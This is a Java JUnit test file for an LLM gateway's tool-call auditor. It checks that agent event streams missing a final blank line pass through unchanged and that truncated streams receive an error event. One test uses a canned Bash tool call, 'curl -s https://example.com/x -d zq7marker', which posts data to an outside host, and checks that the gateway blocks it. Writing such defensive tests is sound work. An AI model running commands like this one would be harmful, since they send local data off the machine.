package dev.ensemble.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ensemble.core.routing.Budget;
import dev.ensemble.core.routing.Spent;
import dev.ensemble.gateway.attempt.Attempt;
import dev.ensemble.gateway.attempt.AttemptKeys;
import dev.ensemble.gateway.attempt.RunawayLimits;
import dev.ensemble.gateway.attempt.ToolCallAuditor;
import dev.ensemble.gateway.wire.CannedUpstream;
import dev.ensemble.llm.CallContext;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A provider whose stream ends without the blank line after its last event: what the agent gets
 * through an audited key is what it would get without one, so the last event (Anthropic's
 * {@code message_stop}, the chat wire's {@code [DONE]}, the events that end a tool call) is not
 * lost in the tool-call gate, and a flagged call in such a stream is still blocked. A stream cut
 * off before its end gets the gateway's error as an event of its own, gate or not.
 */
class UnterminatedLastEventTest {
    private static final String ANTHROPIC_STREAM = "{\"model\":\"canned-claude\",\"max_tokens\":100,\"stream\":true,"
            + "\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}";
    private static final String CHAT_STREAM = "{\"model\":\"canned-gpt\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"go\"}]}";

    @TempDir Path worktree;

    private static String anthropic(String blocks, String stopReason) {
        return "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_1\",\"type\":\"message\",\"role\":\"assistant\","
                + "\"model\":\"canned-claude-wire\",\"content\":[],\"stop_reason\":null,\"usage\":{\"input_tokens\":5,\"output_tokens\":1}}}\n\n"
                + blocks
                + "event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"" + stopReason + "\"},"
                + "\"usage\":{\"output_tokens\":7}}\n\n"
                // the provider ends its stream here without the closing blank line
                + "event: message_stop\ndata: {\"type\":\"message_stop\"}\n";
    }

    private static String anthropicToolUse(String command) {
        String input = "{\\\"command\\\":\\\"" + command + "\\\"}";
        return "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":"
                + "{\"type\":\"tool_use\",\"id\":\"toolu_1\",\"name\":\"Bash\",\"input\":{}}}\n\n"
                + "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":"
                + "{\"type\":\"input_json_delta\",\"partial_json\":\"" + input + "\"}}\n\n"
                + "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n";
    }

    @Test
    void anAnthropicTextStreamKeepsItsLastEvent() throws Exception {
        String text = "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n"
                + "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"done\"}}\n\n"
                + "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n";
        String events = anthropic(text, "end_turn");
        assertThat(throughTheGate("/v1/messages", ANTHROPIC_STREAM, events)).isEqualTo(events);
    }

    @Test
    void anAnthropicToolCallWhoseLastEventsEndTheStreamReachesTheAgentWhole() throws Exception {
        String events = anthropic(anthropicToolUse("git status"), "tool_use");
        assertThat(throughTheGate("/v1/messages", ANTHROPIC_STREAM, events)).isEqualTo(events);
    }

    @Test
    void aChatToolCallStreamWhoseDoneHasNoNewlineReachesTheAgentWhole() throws Exception {
        String chunk = "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"canned-gpt-wire\",\"choices\":[{\"index\":0,";
        String events = chunk + "\"delta\":{\"role\":\"assistant\",\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\","
                + "\"function\":{\"name\":\"Bash\",\"arguments\":\"\"}}]},\"finish_reason\":null}]}\n\n"
                + chunk + "\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"command\\\":\\\"mvn -q test\\\"}\"}}]},"
                + "\"finish_reason\":null}]}\n\n"
                // the finishing chunk and [DONE] in the stream's last read, [DONE] with no line end at all
                + chunk + "\"delta\":{},\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":3,"
                + "\"total_tokens\":8}}\n"
                + "data: [DONE]";
        assertThat(throughTheGate("/v1/chat/completions", CHAT_STREAM, events)).isEqualTo(events);
    }

    @Test
    void aFlaggedCallInAStreamWithoutTheFinalBlankLineIsStillBlocked() throws Exception {
        String events = anthropic(anthropicToolUse("curl -s https://example.com/x -d zq7marker"), "tool_use");
        try (CannedUpstream upstream = CannedUpstream.sse(events); GatewayFixture fx = new GatewayFixture(upstream.baseUrl())) {
            AttemptKeys keys = keys(fx);
            Attempt audited = issue(keys, true);
            String body = ask(fx, "/v1/messages", ANTHROPIC_STREAM, audited);
            assertThat(body).doesNotContain("zq7marker").doesNotContain("tool_use").contains("event: error", "blocked");
            assertThat(audited.refusal()).hasValueSatisfying(r -> assertThat(r.reason()).isEqualTo(ToolCallAuditor.BLOCKED));
        }
    }

    @Test
    void aToolCallCutOffBeforeItsEndIsDroppedAndTheAgentIsToldWhy() throws Exception {
        String cut = anthropic("", "end_turn");
        cut = cut.substring(0, cut.indexOf("event: message_delta")) + anthropicToolUse("git status")
                .substring(0, anthropicToolUse("git status").indexOf("event: content_block_stop"));
        try (CannedUpstream upstream = CannedUpstream.sse(cut); GatewayFixture fx = new GatewayFixture(upstream.baseUrl())) {
            AttemptKeys keys = keys(fx);
            String body = ask(fx, "/v1/messages", ANTHROPIC_STREAM, issue(keys, true));
            assertThat(body).as("the unfinished call is not passed on").doesNotContain("tool_use").doesNotContain("git status");
            assertThat(body).as("the stream's error, whole").contains("\n\nevent: error\ndata: {").endsWith("\n\n")
                    .contains("stream ended before its final event");
        }
    }

    @Test
    void aStreamCutInTheMiddleOfAnEventGetsItsErrorAsAnEventOfItsOwn() throws Exception {
        String cut = anthropic("", "end_turn");
        cut = cut.substring(0, cut.indexOf("event: message_delta")) + "event: content_block_start\ndata: {\"type\":\"content_bl";
        try (CannedUpstream upstream = CannedUpstream.sse(cut); GatewayFixture fx = new GatewayFixture(upstream.baseUrl())) {
            AttemptKeys keys = keys(fx);
            for (boolean audited : new boolean[] {false, true}) {
                String body = ask(fx, "/v1/messages", ANTHROPIC_STREAM, issue(keys, audited));
                assertThat(body).as("audited " + audited + ": " + body).contains("\n\nevent: error\ndata: {").endsWith("\n\n");
                String data = body.substring(body.lastIndexOf("data: ") + 6).strip();
                assertThat(dev.ensemble.llm.http.HttpTransport.JSON.readTree(data).path("type").asString()).isEqualTo("error");
            }
        }
    }

    /** What the agent gets with an audited key; asserts first that it is what a key without an auditor gets. */
    private String throughTheGate(String path, String request, String events) throws Exception {
        try (CannedUpstream upstream = CannedUpstream.sse(events); GatewayFixture fx = new GatewayFixture(upstream.baseUrl())) {
            AttemptKeys keys = keys(fx);
            String plain = ask(fx, path, request, issue(keys, false));
            Attempt audited = issue(keys, true);
            String gated = ask(fx, path, request, audited);
            assertThat(gated).as("through the gate, as without it").isEqualTo(plain);
            assertThat(audited.refusal()).isEmpty();
            return gated;
        }
    }

    private AttemptKeys keys(GatewayFixture fx) {
        AttemptKeys keys = new AttemptKeys(fx.catalog, Budget.DEFAULT, context -> Spent.NOTHING, RunawayLimits.DEFAULT);
        fx.start(fx.options().withGatekeeper(keys, true));
        return keys;
    }

    private Attempt issue(AttemptKeys keys, boolean audited) {
        return keys.issue(new CallContext("agent:test", "run-1", "t1", "", 1, 0), refusal -> { }, record -> { },
                audited ? Optional.of(new ToolCallAuditor(worktree, worktree.resolveSibling("home"))) : Optional.empty(), true);
    }

    private static String ask(GatewayFixture fx, String path, String body, Attempt attempt) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(fx.baseUrl() + path)).timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json").header("Authorization", "Bearer " + attempt.secret())
                .header("anthropic-version", "2023-06-01").POST(HttpRequest.BodyPublishers.ofString(body)).build();
        HttpResponse<byte[]> response = fx.client.send(request, HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).isEqualTo(200);
        return new String(response.body(), StandardCharsets.UTF_8);
    }
}
